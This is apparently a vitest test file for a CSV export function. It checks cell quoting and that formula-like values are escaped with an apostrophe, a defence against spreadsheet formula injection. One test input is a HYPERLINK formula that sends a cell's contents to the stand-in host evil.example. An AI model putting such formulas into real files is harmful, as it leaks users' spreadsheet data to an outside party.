import { expect, test } from 'vitest'
import { csvText } from './csv.ts'

const cell = (value: unknown): string => csvText([], [[value]]).slice('\r\n'.length, -'\r\n'.length)

test('rows are lines under their names, and a missing cell is empty', () => {
  expect(csvText(['a', 'b'], [['1', 'x'], ['2'], [undefined, null]])).toBe('a,b\r\n1,x\r\n2\r\n,\r\n')
})

test.each([
  ['x,y', '"x,y"'],
  ['say "no"', '"say ""no"""'],
  ['two\nlines', '"two\nlines"'],
  ['"', '""""'],
])('%j stays one cell', (value, written) => expect(cell(value)).toBe(written))

test.each([
  '=1+1',
  '+1',
  '-1',
  '@x',
  '\tx',
  '\rx',
  '\nx',
  '  =1',
  '\t=1',
  '＝1',
  '＠SUM(A1)',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
])('%j is text to a spreadsheet', (formula) => {
  expect(cell(formula)).toMatch(/^"?'/)
  expect(cell(formula).replaceAll('""', '"')).toContain(formula)
})

test.each([
  [-5n, '-5'],
  [-1, '-1'],
  ['a=b', 'a=b'],
  ['2026-11-29', '2026-11-29'],
])('%s needs no apostrophe', (value, written) => expect(cell(value)).toBe(written))
